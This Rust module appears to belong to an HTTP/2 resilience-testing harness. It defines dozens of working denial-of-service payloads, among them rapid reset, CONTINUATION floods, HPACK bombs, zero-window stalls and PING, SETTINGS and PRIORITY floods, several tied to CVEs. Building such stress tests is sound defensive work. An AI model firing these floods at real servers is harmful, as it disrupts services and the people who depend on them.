//! The attacks over HTTP/2: floods of frames, large header blocks, and closed windows.

use std::sync::OnceLock;

use super::frames::{
    CONTINUATION, DATA, END_STREAM, GET_HEADERS, GET_HELLO, GET_SLEEP, GET_STREAM, GOAWAY, HEADERS,
    INITIAL_WINDOW_SIZE, PING, POST_BODY, POST_UPLOAD, PREFACE, PRIORITY, PRIORITY_UPDATE, SETTINGS, WINDOW_UPDATE,
    frame, headers, insert, integer, numbers, opening, opening_with, reset, setting, string, window_update,
};
use super::spec::{self, Attack, Data, End, MOST_STREAMS, Pace, Payload, Protocol, Reading, Then, filled};

const BASE: Attack = Attack { protocol: Protocol::Http2, opening: || opening(None), ..spec::BASE };

const MIB: u64 = 1 << 20;

/// The largest flow-control window of a stream, in bytes.
const WIDE: u32 = (1 << 31) - 1;

/// The number of frames in one round of a flood.
const ROUND: u32 = 2000;

/// Fills a write with copies of a frame.
fn flood(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let mut unit = Vec::new();
    frame(&mut unit, kind, flags, stream, content);
    filled(&unit)
}

/// Returns an opening and a POST to /upload on each of [`MOST_STREAMS`] streams.
fn uploads() -> Vec<u8> {
    opening_with(None, MOST_STREAMS, 0, POST_UPLOAD)
}

/// Endless DATA frames of one byte on every stream.
const TINY_DATA: Data =
    Data { streams: MOST_STREAMS, content: || vec![b'x'; 1], padding: None, most: u64::MAX, then: Then::Drip };

/// Nearly 1 MiB on every stream, which `/body` holds until the body is complete.
const BODIES: Data = Data {
    streams: MOST_STREAMS,
    content: || vec![b'x'; 4_096],
    padding: None,
    most: 1_000_000 / 4_096 * 4_096,
    then: Then::Drip,
};

/// The size of large header blocks in bytes, below the server's limit on CONTINUATION.
const BLOCK_BYTES: usize = 60_000;

/// Returns the block of a request, followed by as many copies of a field representation as fit.
fn block_of(start: &[u8], representation: &[u8]) -> Vec<u8> {
    let count = (BLOCK_BYTES - start.len()) / representation.len();
    [start, &representation.repeat(count)].concat()
}

/// Returns a block that inserts a field and then repeats a representation that references it as often as fits.
pub(super) fn block_naming(name: &[u8], value: &[u8], representation: &[u8]) -> Vec<u8> {
    let mut start = GET_HELLO.to_vec();
    insert(&mut start, name, value);
    block_of(&start, representation)
}

/// Appends a round: one request with this block on a new stream.
fn one_block(round: u32, out: &mut Vec<u8>, block: &[u8]) {
    numbers(round, 1).for_each(|stream| headers(out, END_STREAM, stream, block));
}

/// Returns a block with 90 cookie fields, of which all but the first take one byte.
fn crumbs() -> Vec<u8> {
    let mut block = GET_HEADERS.to_vec();
    insert(&mut block, b"cookie", &[b'c'; 200]);
    [block, vec![0xbe; 89]].concat()
}

pub(super) fn get(stream: u32, out: &mut Vec<u8>) {
    headers(out, END_STREAM, stream, GET_HELLO);
}

/// Pairs of requests, of which the second is reset.
pub(super) const PACED_RESETS: Payload = Payload::Streams {
    open: 60,
    step: 2,
    request: |stream, out| {
        get(stream, out);
        get(stream + 2, out);
        reset(out, stream + 2);
    },
};

pub(super) const ATTACKS: &[Attack] = &[
    // Short-lived streams.
    Attack {
        name: "http2-rapid-reset",
        what: "GETs of /hello, each followed by RST_STREAM (CVE-2023-44487).",
        payload: Payload::Numbered(|round, out| {
            for stream in numbers(round, 1000) {
                get(stream, out);
                reset(out, stream);
            }
        }),
        ..BASE
    },
    Attack {
        name: "http2-paced-reset",
        what: "Pairs of GETs, 60 at a time; the first is answered and the second reset, so that no allowance for \
               resets runs out.",
        payload: PACED_RESETS,
        ..BASE
    },
    Attack {
        name: "http2-made-you-reset",
        what: "GETs of /sleep, each followed by a frame that makes the server reset the stream: WINDOW_UPDATE of 0, \
               DATA on a half-closed stream, a window beyond its limit (CVE-2025-8671).",
        payload: Payload::Numbered(|round, out| {
            for stream in numbers(round, 1000) {
                headers(out, END_STREAM, stream, GET_SLEEP);
                match stream % 6 {
                    1 => window_update(out, stream, 0),
                    3 => frame(out, DATA, 0, stream, b"x"),
                    _ => window_update(out, stream, WIDE),
                }
            }
        }),
        ..BASE
    },
    Attack {
        name: "http2-frames-after-reset",
        what: "POSTs to /upload, each reset and then followed by trailers and an empty DATA frame that end the \
               stream again.",
        payload: Payload::Numbered(|round, out| {
            for stream in numbers(round, 500) {
                headers(out, 0, stream, POST_UPLOAD);
                reset(out, stream);
                headers(out, END_STREAM, stream, b"");
                frame(out, DATA, END_STREAM, stream, b"");
            }
        }),
        ..BASE
    },
    Attack {
        name: "http2-reset-idle",
        what: "RST_STREAM on streams that were never opened.",
        payload: Payload::Numbered(|round, out| numbers(round, ROUND).for_each(|stream| reset(out, stream))),
        ..BASE
    },
    Attack {
        name: "http2-too-many-streams",
        what: "GETs of /sleep without regard to the limit on streams.",
        payload: Payload::Numbered(|round, out| {
            numbers(round, 1000).for_each(|stream| headers(out, END_STREAM, stream, GET_SLEEP));
        }),
        ..BASE
    },
    Attack {
        name: "http2-sleepers",
        what: "128 GETs of /sleep?ms=50000 that stay open.",
        opening: || opening_with(None, MOST_STREAMS, END_STREAM, GET_SLEEP),
        handlers_own: Some(
            "the handlers wait for 50 s, even if the client ends its direction, because it may still read",
        ),
        ..BASE
    },
    Attack {
        name: "http2-requests",
        what: "GETs of /hello, 100 at a time; every answer is read.",
        payload: Payload::Streams { open: 100, step: 1, request: get },
        ..BASE
    },
    Attack {
        name: "http2-requests-unread",
        what: "Endless GETs of /hello; no answer is read.",
        payload: Payload::Numbered(|round, out| numbers(round, 1000).for_each(|stream| get(stream, out))),
        reading: Reading::Nothing,
        ..BASE
    },
    // Header blocks.
    Attack {
        name: "http2-endless-continuation",
        what: "HEADERS without END_HEADERS, then endless CONTINUATION frames of 16 KiB (CVE-2024-27316).",
        opening: || {
            let mut out = opening(None);
            frame(&mut out, HEADERS, END_STREAM, 1, GET_HELLO);
            out
        },
        payload: Payload::Same(|| {
            // Literal fields `a: b` without indexing.
            flood(CONTINUATION, 0, 1, &b"\x00\x01a\x01b".repeat(3276))
        }),
        ..BASE
    },
    Attack {
        name: "http2-empty-continuation",
        what: "HEADERS without END_HEADERS, then endless empty CONTINUATION frames.",
        opening: || {
            let mut out = opening(None);
            frame(&mut out, HEADERS, END_STREAM, 1, GET_HELLO);
            out
        },
        payload: Payload::Same(|| flood(CONTINUATION, 0, 1, b"")),
        ..BASE
    },
    Attack {
        name: "http2-half-head",
        what: "HEADERS without END_HEADERS, and nothing after it.",
        opening: || {
            let mut out = opening(None);
            frame(&mut out, HEADERS, END_STREAM, 1, GET_HELLO);
            out
        },
        ..BASE
    },
    Attack {
        name: "http2-long-names",
        what: "Blocks of 60,000 bytes that insert a name of 4,000 bytes, then 28,000 fields of two bytes that \
               reference it and are inserted, too.",
        payload: Payload::Numbered(|round, out| {
            static BLOCK: OnceLock<Vec<u8>> = OnceLock::new();
            // 0x7e is a literal with indexing and the name of entry 62; its value is empty.
            one_block(round, out, BLOCK.get_or_init(|| block_naming(&[b'a'; 4000], b"", b"\x7e\x00")));
        }),
        ..BASE
    },
    Attack {
        name: "http2-long-names-not-indexed",
        what: "As http2-long-names, with 18,600 fields of three bytes that are not inserted.",
        payload: Payload::Numbered(|round, out| {
            static BLOCK: OnceLock<Vec<u8>> = OnceLock::new();
            let block = BLOCK.get_or_init(|| {
                let mut representation = Vec::new();
                integer(&mut representation, 0, 4, 62);
                string(&mut representation, b"");
                block_naming(&[b'a'; 4000], b"", &representation)
            });
            one_block(round, out, block);
        }),
        ..BASE
    },
    Attack {
        name: "http2-indexed-values",
        what: "Blocks of 60,000 bytes that insert a value of 4,000 bytes, then reference it 56,000 times with one \
               byte each (HPACK bomb, CVE-2016-6581).",
        payload: Payload::Numbered(|round, out| {
            static BLOCK: OnceLock<Vec<u8>> = OnceLock::new();
            one_block(round, out, BLOCK.get_or_init(|| block_naming(b"a", &[b'b'; 4000], b"\xbe")));
        }),
        ..BASE
    },
    Attack {
        name: "http2-cookie-crumbs",
        what: "Blocks of 60,000 empty cookie fields, one byte each (CVE-2026-49975).",
        payload: Payload::Numbered(|round, out| {
            static BLOCK: OnceLock<Vec<u8>> = OnceLock::new();
            // 0xa0 is the static entry 32: `cookie` without a value.
            one_block(round, out, BLOCK.get_or_init(|| block_of(GET_HELLO, b"\xa0")));
        }),
        ..BASE
    },
    Attack {
        name: "http2-bomb",
        what: "128 GETs of /headers with 90 cookie fields of 200 bytes, encoded in one byte each; the answers wait \
               for a window of 0.",
        opening: || opening_with(Some(0), MOST_STREAMS, END_STREAM, &crumbs()),
        ..BASE
    },
    Attack {
        name: "http2-insertions",
        what: "GETs, 100 at a time, with 80 fields each that are inserted into the table and evict others.",
        payload: Payload::Streams {
            open: 100,
            step: 1,
            request: |stream, out| {
                static BLOCK: OnceLock<Vec<u8>> = OnceLock::new();
                let block = BLOCK.get_or_init(|| {
                    let mut block = GET_HELLO.to_vec();
                    (0..80).for_each(|number| insert(&mut block, b"a", &[b'!' + number]));
                    block
                });
                headers(out, END_STREAM, stream, block);
            },
        },
        ..BASE
    },
    Attack {
        name: "http2-huffman",
        what: "GETs, 100 at a time, with two values of 8,000 bytes each that Huffman decodes to 12,800.",
        payload: Payload::Streams {
            open: 100,
            step: 1,
            request: |stream, out| {
                static BLOCK: OnceLock<Vec<u8>> = OnceLock::new();
                let block = BLOCK.get_or_init(|| {
                    let mut block = GET_HELLO.to_vec();
                    for _ in 0..2 {
                        // Huffman: five zero bits are the digit 0. The high bit of the length marks Huffman coding.
                        block.extend_from_slice(b"\x00\x01a");
                        integer(&mut block, 0x80, 7, 8000);
                        block.extend_from_slice(&[0; 8000]);
                    }
                    block
                });
                headers(out, END_STREAM, stream, block);
            },
        },
        ..BASE
    },
    // Bodies.
    Attack {
        name: "http2-tiny-data",
        what: "128 POSTs to /upload, with DATA frames of one byte on each in turn.",
        opening: uploads,
        payload: Payload::Data(TINY_DATA),
        ..BASE
    },
    Attack {
        name: "http2-small-data",
        what: "As http2-tiny-data, with DATA frames of nine bytes.",
        opening: uploads,
        payload: Payload::Data(Data { content: || vec![b'x'; 9], ..TINY_DATA }),
        ..BASE
    },
    Attack {
        name: "http2-padded-data",
        what: "As http2-tiny-data, with 255 bytes of padding in each frame.",
        opening: uploads,
        payload: Payload::Data(Data { padding: Some(255), ..TINY_DATA }),
        ..BASE
    },
    Attack {
        name: "http2-empty-data",
        what: "A POST to /upload with empty DATA frames (CVE-2019-9518).",
        opening: || opening_with(None, 1, 0, POST_UPLOAD),
        payload: Payload::Same(|| flood(DATA, 0, 1, b"")),
        ..BASE
    },
    Attack {
        name: "http2-held-bodies",
        what: "128 POSTs to /body with 1 MB each that do not end, then 55 bytes on each every second.",
        opening: || opening_with(None, MOST_STREAMS, 0, POST_BODY),
        payload: Payload::Data(BODIES),
        body_bytes: MIB,
        ..BASE
    },
    Attack {
        name: "http2-whole-bodies",
        what: "128 POSTs to /body with 1 MB each, which end together; the answers are read, then the next \
               connection does the same.",
        opening: || opening_with(Some(WIDE), MOST_STREAMS, 0, POST_BODY),
        payload: Payload::Data(Data { then: Then::Finish, ..BODIES }),
        end: End::Close,
        body_bytes: MIB,
        ..BASE
    },
    Attack {
        name: "http2-whole-bodies-stalled",
        what: "As http2-whole-bodies, but the answers wait for a window of 0.",
        opening: || opening_with(Some(0), MOST_STREAMS, 0, POST_BODY),
        payload: Payload::Data(Data { then: Then::Finish, ..BODIES }),
        body_bytes: MIB,
        ..BASE
    },
    Attack {
        name: "http2-slow-bodies",
        what: "128 POSTs to /upload, with one byte on each every second.",
        opening: uploads,
        payload: Payload::Numbered(|_, out| {
            numbers(0, MOST_STREAMS).for_each(|stream| frame(out, DATA, 0, stream, b"x"))
        }),
        pace: Pace::Every(1000),
        ..BASE
    },
    // Windows.
    Attack {
        name: "http2-stalled-streams",
        what: "128 GETs of /stream?bytes=1000000000 with a window of 0.",
        opening: || opening_with(Some(0), MOST_STREAMS, END_STREAM, GET_STREAM),
        ..BASE
    },
    Attack {
        name: "http2-window-of-one",
        what: "128 GETs of /stream with a window of 1, then WINDOW_UPDATEs of 1 on each in turn (CVE-2019-9511).",
        opening: || opening_with(Some(1), MOST_STREAMS, END_STREAM, GET_STREAM),
        payload: Payload::Numbered(|_, out| {
            for _ in 0..ROUND / MOST_STREAMS {
                numbers(0, MOST_STREAMS).for_each(|stream| window_update(out, stream, 1));
            }
        }),
        ..BASE
    },
    Attack {
        name: "http2-streams-unread",
        what: "128 GETs of /stream?bytes=1000000000 with the widest windows; nothing is read.",
        opening: || opening_with(Some(WIDE), MOST_STREAMS, END_STREAM, GET_STREAM),
        reading: Reading::Nothing,
        ..BASE
    },
    Attack {
        name: "http2-window-updates",
        what: "WINDOW_UPDATEs of 1 for the connection.",
        payload: Payload::Same(|| flood(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())),
        ..BASE
    },
    Attack {
        name: "http2-window-settings",
        what: "128 GETs of /stream, then SETTINGS that change the window of every stream from 0 to 1 and back \
               (CVE-2019-9515).",
        opening: || opening_with(Some(0), MOST_STREAMS, END_STREAM, GET_STREAM),
        payload: Payload::Same(|| {
            let mut unit = Vec::new();
            frame(&mut unit, SETTINGS, 0, 0, &setting(INITIAL_WINDOW_SIZE, 1));
            frame(&mut unit, SETTINGS, 0, 0, &setting(INITIAL_WINDOW_SIZE, 0));
            filled(&unit)
        }),
        ..BASE
    },
    // Frames without a request.
    Attack {
        name: "http2-settings",
        what: "Empty SETTINGS, which the server must acknowledge.",
        payload: Payload::Same(|| flood(SETTINGS, 0, 0, b"")),
        ..BASE
    },
    Attack {
        name: "http2-settings-unread",
        what: "As http2-settings, but nothing is read.",
        payload: Payload::Same(|| flood(SETTINGS, 0, 0, b"")),
        reading: Reading::Nothing,
        ..BASE
    },
    Attack {
        name: "http2-long-settings",
        what: "SETTINGS frames of 2,730 settings each.",
        payload: Payload::Same(|| flood(SETTINGS, 0, 0, &setting(INITIAL_WINDOW_SIZE, 1000).repeat(2730))),
        ..BASE
    },
    Attack {
        name: "http2-ping",
        what: "PINGs, which the server must answer (CVE-2019-9512).",
        payload: Payload::Same(|| flood(PING, 0, 0, &[0; 8])),
        ..BASE
    },
    Attack {
        name: "http2-ping-unread",
        what: "As http2-ping, but nothing is read.",
        payload: Payload::Same(|| flood(PING, 0, 0, &[0; 8])),
        reading: Reading::Nothing,
        ..BASE
    },
    Attack {
        name: "http2-priority",
        what: "PRIORITY frames on idle streams, each of which depends on the previous stream (CVE-2019-9513).",
        payload: Payload::Numbered(|round, out| {
            for stream in numbers(round, ROUND) {
                let [a, b, c, d] = stream.saturating_sub(2).to_be_bytes();
                frame(out, PRIORITY, 0, stream, &[a, b, c, d, 15]);
            }
        }),
        ..BASE
    },
    Attack {
        name: "http2-priority-update",
        what: "PRIORITY_UPDATE frames for idle streams.",
        payload: Payload::Numbered(|round, out| {
            for stream in numbers(round, ROUND) {
                frame(out, PRIORITY_UPDATE, 0, 0, &[&stream.to_be_bytes()[..], b"u=1"].concat());
            }
        }),
        ..BASE
    },
    Attack {
        name: "http2-unknown-frames",
        what: "Empty frames of an unknown type.",
        payload: Payload::Same(|| flood(0xee, 0, 0, b"")),
        ..BASE
    },
    Attack {
        name: "http2-goaway",
        what: "GOAWAY frames with 1 KB of debug data each.",
        payload: Payload::Same(|| flood(GOAWAY, 0, 0, &[0; 1024])),
        ..BASE
    },
    Attack {
        name: "http2-large-frame",
        what: "The head of a DATA frame of 16 MiB, then endless content.",
        opening: || [opening(None), b"\xff\xff\xff\x00\x00\x00\x00\x00\x01".to_vec()].concat(),
        payload: Payload::Same(|| filled(b"x")),
        ..BASE
    },
    // The start of connections.
    Attack {
        name: "http2-slow-preface",
        what: "The preface, one byte every 100 ms.",
        opening: Vec::new,
        payload: Payload::Numbered(|round, out| out.extend(PREFACE.get(round as usize))),
        pace: Pace::Every(100),
        ..BASE
    },
    Attack { name: "http2-silent", what: "The preface and SETTINGS, and nothing after them.", ..BASE },
];
